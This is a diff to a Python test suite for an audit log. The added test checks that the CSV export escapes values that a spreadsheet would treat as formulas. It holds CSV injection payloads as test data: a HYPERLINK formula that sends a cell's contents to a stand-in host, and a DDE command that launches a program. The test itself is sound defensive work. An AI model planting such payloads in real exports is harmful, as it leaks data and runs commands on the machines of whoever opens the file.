@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import sqlite3
 import stat
@@ -179,3 +181,15 @@ def test_a_new_log_without_records_verifies(tmp_path) -> None:
     assert audit.verify().ok  # nothing written yet: no database, no head
     audit.check_writable()
     assert audit.verify().ok  # an empty database and no head: still nothing written
+
+
+def test_a_target_that_would_be_a_spreadsheet_formula_is_exported_as_text(tmp_path) -> None:
+    audit = AuditLog(tmp_path / "state" / "audit.db", TickingClock())
+    for target in ('=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1", "i-0abc"):
+        audit.append("bob", "developer", "stop", target, (("note", "=cmd|' /C calc'!A0"),), "ok")
+    rows = list(csv.reader(io.StringIO(to_csv(audit.records()), newline="")))[1:]
+    targets = [row[5] for row in rows]
+    assert targets == ["'" + t for t in ('=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3",
+                                           "@SUM(A1)", "\tx", "\r=1")] + ["i-0abc"]
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+    assert audit.verify().ok  # the log itself keeps what was written; only the export marks it
